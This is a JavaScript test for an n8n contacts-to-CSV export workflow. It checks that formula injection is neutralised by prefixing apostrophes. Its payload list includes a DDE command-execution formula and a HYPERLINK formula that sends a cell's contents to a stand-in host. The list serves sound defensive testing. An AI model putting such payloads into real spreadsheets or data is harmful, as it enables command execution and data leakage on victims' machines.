import assert from 'node:assert/strict';
import { test } from 'node:test';

import { parse } from 'csv-parse/sync';

import { outputOf } from '../../../scripts/n8n-server/client/index.mjs';
import { CREDENTIAL_TYPE } from '../../../scripts/n8n-server/demo.mjs';
import { importCopy } from '../support/examples/exampleCopy.mjs';
import { connect, startService } from '../support/session.mjs';

const FORMULAS = [
	'=HYPERLINK("http://example.test/?x="&A1,"Pay")',
	"+1+cmd|' /C calc'!A0",
	'-2+3',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	' =1+1',
	'＝1+1',
	"'=1+1",
	'+351 912 345 678 =1+1',
];
const NO_FORMULAS = [
	'+351 912 345 678',
	'+351912345678',
	'+1 (555) 010-0100',
	"O'Neill",
	'a=b',
	'',
];

const { n8n } = connect();

test('the file holds exactly the contacts of the service, and no customer can write a formula into a cell', async (t) => {
	// More than one page of them.
	const { sandbox, credential } = await startService(n8n, { counts: { customers: 250 } });
	const contacts = sandbox.store.customers.all();
	const names = [...FORMULAS, ...NO_FORMULAS];
	for (const [index, name] of names.entries())
		Object.assign(contacts[index] ?? {}, { last_name: name });
	const flow = await importCopy(t, n8n, 'export-contacts-to-csv.json', {
		credentials: { [CREDENTIAL_TYPE]: credential },
	});
	const execution = await flow.run('When clicking ‘Execute workflow’');

	const [item] = outputOf(execution, 'Convert to CSV');
	const file = item?.binary?.['data'];
	assert.ok(file);
	assert.equal(file.fileName, 'contacts.csv');
	// A CSV file knows only text. That of a formula begins with an apostrophe, and none is lost.
	const textOf = (/** @type {unknown} */ value) =>
		FORMULAS.includes(String(value)) ? `'${value}` : String(value);
	assert.deepEqual(
		parse(await n8n.readFile(file), { bom: true, columns: true }),
		contacts.map((contact) =>
			Object.fromEntries(Object.entries(contact).map(([name, value]) => [name, textOf(value)])),
		),
	);
});
